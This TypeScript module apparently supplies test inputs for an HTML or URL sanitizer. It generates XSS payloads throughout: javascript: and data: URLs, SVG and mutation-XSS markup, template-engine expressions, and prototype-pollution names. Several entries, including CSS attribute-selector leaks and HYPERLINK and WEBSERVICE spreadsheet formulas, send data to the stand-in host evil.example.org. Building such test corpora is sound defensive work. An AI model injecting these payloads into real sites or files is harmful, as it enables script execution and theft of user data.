/** URLs that no page may link to, each as plain text and as the target of a link. */
export const buildUrlPayloads = (call: string): string[] => {
  const urls = [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    `java\tscript:${call}`,
    ` javascript:${call}`,
    `javascript&colon;${call}`,
    `javascript://example.org/%0a${call}`,
    `javascript:"x";${call}`,
    `view-source:javascript:${call}`,
    `feed:javascript:${call}`,
    `vbscript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `data:image/svg+xml,<svg onload=${call}>`,
    `blob:https://example.org/${call}`,
    "//evil.example.org/x",
    "/\\evil.example.org/x",
    "https:evil.example.org",
    "http://user:name@evil.example.org/",
    `https://example.org/"onmouseover="${call}`,
    `https://example.org/'><script>${call}</script>`,
  ];
  return [...urls, ...urls.map((url) => `<a href="${url}">x</a>`)];
};

export const buildSvgPayloads = (call: string): string[] => [
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:,${call} />`,
  `<svg><script>${call.replace("(", "&#40;")}</script>`,
  `<svg><a xlink:href=javascript:${call}><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${call}>`,
  `<svg><animate attributeName=href values=javascript:${call} /><a id=x>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>${call}</script></svg>#x">`,
  "<svg><image href=//evil.example.org/p.svg>",
  `<svg><style><img src=x onerror=${call}></style>`,
  `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `<svg><handler type="application/ecmascript">${call}</handler>`,
];

/** Mutation XSS: markup that parses differently the second time (MathML, foreign content, templates). */
export const buildMutationPayloads = (call: string): string[] => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<math href=javascript:${call}>x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${call}>x`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<xmp><p title="</xmp><svg/onload=${call}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${call}>">`,
  `<select><style></select><img src=x onerror=${call}></style>`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>">`,
  `<table><caption><svg><script>${call}</script>`,
  `<template><script>${call}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
  `<template><svg onload=${call}></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<!doctype html><html><body onload=${call}>`,
  `<!ENTITY x "<script>${call}</script>">&x;`,
];

/** Expressions that template engines or frameworks would evaluate. */
export const buildTemplatePayloads = (call: string): string[] => [
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{{$on.constructor('${call}')()}}`,
  `{{{${call}}}}`,
  `\${${call}}`,
  `#{${call}}`,
  `*{${call}}`,
  `@{${call}}`,
  `<%= ${call} %>`,
  `<?= ${call} ?>`,
  `{%raw%}${call}{%endraw%}`,
  `[[\${${call}}]]`,
  `<div ng-app ng-init=${call}>`,
  `<div v-on:mouseenter=${call}>`,
  `<div x-data x-init=${call}>`,
  `<div hx-on:load=${call}>`,
  `<div data-bind="click:${call}">`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
];

/** Styles that would send requests, cover the page or run code. */
export const buildStylePayloads = (call: string): string[] => [
  "<style>@import '//evil.example.org/x.css'</style>",
  "<style>*{background:url(//evil.example.org/p)}</style>",
  `<div style="background:url(javascript:${call})">`,
  `<div style="width:expression(${call})">`,
  `<div style="behavior:url(x.htc)">${call}`,
  "<div style=position:fixed;inset:0;z-index:9999>covered</div>",
  `<style>@keyframes x{}</style><b style=animation-name:x onanimationend=${call}>`,
  "}*{display:none}/*",
  ";background:url(//evil.example.org/p);",
  "<style>input[value^=a]{background:url(//evil.example.org/a)}</style>",
  `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
];

/** Names that pollute prototypes or clobber DOM properties, and spreadsheet and calendar injections. */
export const buildReservedNamePayloads = (call: string): string[] => [
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__"],
  '{"__proto__":{"polluted":1}}',
  "__proto__[polluted]=1",
  "constructor.prototype.polluted=1",
  ...["ran", "body", "cookie", "location", "root"].flatMap((name) => [
    `<img name=${name}>`,
    `<a id=${name} href=//evil.example.org>x</a>`,
    `<form id=${name}><input name=attributes>`,
  ]),
  ...["=", "+", "-", "@"].map((sign) => `${sign}HYPERLINK("https://evil.example.org/?"&A1;"x")`),
  `=WEBSERVICE("//evil.example.org/${call}")`,
  "BEGIN:VALARM ATTACH:https://evil.example.org",
  "x\\nATTENDEE:mailto:eve@example.org",
];
